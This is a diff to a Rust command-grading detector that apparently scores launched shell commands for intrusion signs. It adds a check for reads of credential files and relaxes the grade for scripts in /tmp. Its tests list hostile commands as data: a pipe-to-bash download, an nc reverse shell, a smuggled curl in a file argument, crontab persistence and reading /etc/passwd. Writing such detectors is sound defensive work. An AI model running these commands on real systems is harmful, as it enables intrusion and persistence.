@@ -9,6 +9,7 @@ use super::{
     names::{AROUND, LETS_IN, SESSION, TAKES_A_FILE, WRAPPERS},
     program::{
         Kind, Program, Told, asks_about_host, is_anyones, is_dropped, is_intrusion, is_reconnaissance, name,
+        reads_secrets,
     },
     shell::Script,
 };
@@ -68,6 +69,11 @@ pub fn told(launched: &Launched<'_>) -> Option<(Severity, &'static str)> {
     Some((if high { Severity::High } else { Severity::Medium }, why))
 }
 
+/// What a program is told to run says by itself.
+pub fn grade_of(program: &Program<'_>) -> Grade {
+    grade(program.kind, 0).0
+}
+
 fn grade(kind: Kind<'_>, depth: u8) -> Graded {
     match kind {
         _ if depth >= MAX_DEPTH => (Grade::Looks, "it is a shell in a shell in a shell"),
@@ -82,8 +88,9 @@ fn grade(kind: Kind<'_>, depth: u8) -> Graded {
         Kind::Shell(Told::Input) | Kind::Interpreter(Told::Input) => {
             (Grade::Anyones, "it takes commands from its standard input")
         }
+        // Applications put scripts there that they make, and run them.
         Kind::Shell(Told::File(file)) | Kind::Interpreter(Told::File(file)) if is_anyones(file) => {
-            (Grade::Anyones, "it runs a file that lies where anyone may put one")
+            (Grade::Plain, "it runs a file that lies where anyone may put one")
         }
         Kind::Shell(Told::File(file)) | Kind::Interpreter(Told::File(file)) if is_dropped(file) => {
             (Grade::Enters, "it runs a file that lies where no application has its own")
@@ -189,6 +196,8 @@ fn graded(program: &str, args: &[String], depth: u8) -> Option<Says> {
         (grade > Grade::Plain).then_some((grade, why))?
     } else if is_reconnaissance(program, args) {
         (Grade::Looks, "it asks who it is, and who is there")
+    } else if reads_secrets(program, args) {
+        (Grade::Looks, "it reads what opens accounts")
     } else if asks_about_host(program, args) {
         (Grade::Anyones, "it asks where it is")
     } else if is_intrusion(program, args) {
@@ -321,7 +330,7 @@ mod tests {
             ("convert a.jpg;curl h/x -o p.php", Grade::Anyones),
             ("cd /srv && touch x && make", Grade::Plain),
             ("curl -s h | gunzip > x; make", Grade::Plain),
-            ("node /tmp/execjs1.js", Grade::Anyones),
+            ("node /tmp/execjs1.js", Grade::Plain),
             ("sh /dev/shm/x", Grade::Enters),
             ("find /tmp/x -mtime +7 -delete", Grade::Anyones),
             ("flock -n /tmp/lock make all", Grade::Plain),
@@ -337,6 +346,7 @@ mod tests {
             ("(crontab -l; echo x) | crontab -", Grade::Enters),
             ("find /srv -exec id ;", Grade::Looks),
             ("id", Grade::Looks),
+            ("cat /etc/passwd", Grade::Looks),
             ("curl http://h/x | bash", Grade::Looks),
             ("/b?n/cat x", Grade::Looks),
             ("nc h 1 -e /bin/sh", Grade::Enters),
@@ -362,7 +372,8 @@ mod tests {
             (&["sh", "-c", "ls -la /srv"], near, room(24), High),
             (&["python3", "-c", "print(1)"], near, room(0), Medium),
             (&["sh", "/tmp/job.sh"], near, room(4), Medium),
-            (&["sh", "/tmp/job.sh"], near, room(40), High),
+            (&["sh", "/tmp/job.sh"], near, room(40), Medium),
+            (&["sh", "/tmp/job.sh"], near, opaque, High),
             (&["bash", "-s"], near, room(0), Medium),
             (&["bash", "-s"], near, room(2), High),
             (&["sh", "-c", "uname -a"], near, room(0), Medium),
